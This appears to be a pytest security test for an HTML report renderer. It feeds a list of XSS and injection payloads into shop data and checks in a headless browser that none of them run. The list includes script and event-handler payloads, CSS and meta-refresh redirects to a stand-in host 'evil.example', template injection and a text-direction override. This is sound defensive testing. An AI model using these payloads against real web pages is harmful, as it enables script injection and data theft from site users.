"""Whatever customers, products, campaigns and reviews are called, on the page it is text."""

from __future__ import annotations

import os
import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pandas as pd
import pytest

from serving.report import Material, Options, render

if TYPE_CHECKING:
    from playwright.sync_api import Browser

BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
TRAPS = (
    "</script><script>document.title = 'run'; fetch('http://evil.example/a')</script>",
    "<img src=http://evil.example/b onerror=\"document.title='run'\">",
    '"><svg onload="document.title=\'run\'">',
    "'-alert(1)-'",
    "<!--<script>",
    "]]><style>@import 'http://evil.example/c';body{display:none}</style>",
    "<a href=\"javascript:document.title='run'\">click</a>",
    "{{ 7 * 7 }}{% for x in y %}",
    "datum['constructor']['constructor']('document.title=1')()",
    "\u202eevil\u2066",
    "<meta http-equiv=refresh content='0;url=http://evil.example/d'>",
    "<base href=http://evil.example/>",
)


def trapped(material: Material) -> Material:
    """The same with a trap for every text that comes from a shop's data."""

    def trap(texts: pd.Series) -> pd.Series:  # type: ignore[type-arg]
        names = {text: TRAPS[i % len(TRAPS)] + str(i) for i, text in enumerate(texts.unique())}
        return texts.map(lambda text: names[text] if isinstance(text, str) else text)

    scored = material.scored.copy()
    ids = [f"{TRAPS[i % len(TRAPS)]}{i}" for i in range(len(scored))]
    scored["customer_id"] = ids
    scored["reason_1"] = [TRAPS[i % len(TRAPS)] for i in range(len(scored))]
    assert material.plan is not None
    plan = material.plan.copy()
    plan["customer_id"] = ids
    plan["offer"] = trap(plan["offer"])
    plan["action"] = plan["offer"].fillna("none")
    assert material.measures is not None
    measures = material.measures.copy()
    for key in ("topic", "channel", "campaign"):
        names = measures["segment"].str.extract(rf"{key}=([^|]*)", expand=False).dropna().unique()
        for i, name in enumerate(names):
            evil = TRAPS[i % len(TRAPS)].replace("|", "/") + name
            measures["segment"] = measures["segment"].str.replace(
                f"{key}={name}", f"{key}={evil}", regex=False
            )
    quality = {**material.quality, TRAPS[0]: {"read": 5, "accepted": 4, "quarantined": {"x": 1}}}
    segments = material.segments
    if segments is not None:
        segments = segments.assign(rfm_segment=list(TRAPS[: len(segments)]))
    return replace(
        material,
        scored=scored,
        plan=plan,
        measures=measures,
        quality=quality,
        segments=segments,
        notes=TRAPS,
    )


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Chromium as the machine has it; nothing is downloaded."""
    driver = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    named = os.environ.get("REGULARS_BROWSER")
    path = named or next(filter(None, map(shutil.which, BROWSERS)), None)
    if path is None:
        pytest.skip(f"no browser: none of {', '.join(BROWSERS)}, nor REGULARS_BROWSER")
    with driver.sync_playwright() as playwright:
        options = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"]
        launched = playwright.chromium.launch(executable_path=path, args=options)
        yield launched
        launched.close()


@pytest.fixture(scope="module")
def page_of_traps(material: Material) -> str:
    return render(trapped(material), Options(title=TRAPS[0], currency=TRAPS[1], top_n=300))


def test_no_trap_is_markup_in_the_source(page_of_traps: str) -> None:
    for trap in TRAPS:
        if "<" in trap:
            assert trap not in page_of_traps
    assert page_of_traps.count("<script") == 3
    assert "document.title" in page_of_traps  # they are on the page, as text


def test_in_a_browser_no_trap_runs_and_nothing_is_fetched(
    browser: Browser, page_of_traps: str, tmp_path: Path
) -> None:
    path = tmp_path / "page.html"
    path.write_text(page_of_traps, encoding="utf-8")
    said: list[str] = []
    page = browser.new_page(viewport={"width": 1280, "height": 800})
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: said.append(dialog.message))
    page.on("request", lambda r: said.append(r.url) if not r.url.startswith("file:") else None)
    page.goto(path.as_uri())
    page.wait_for_selector("html[data-ready]", timeout=60_000, state="attached")
    assert page.title() != "run"
    assert page.locator("main img, main a[href^='javascript'], main style, main base").count() == 0
    # Tooltips are made from the same texts.
    for mark in page.locator(".role-mark path").all()[:10]:
        mark.hover(force=True, timeout=2_000) if mark.is_visible() else None
    for heading in page.locator("table.people th button").all():
        heading.click()
    assert page.title() != "run"
    assert said == []
    page.close()


def test_a_name_that_reads_backwards_does_not_turn_what_follows(page_of_traps: str) -> None:
    # An override ends with the element around it.
    assert '<bdi class="id">\u202eevil' in page_of_traps
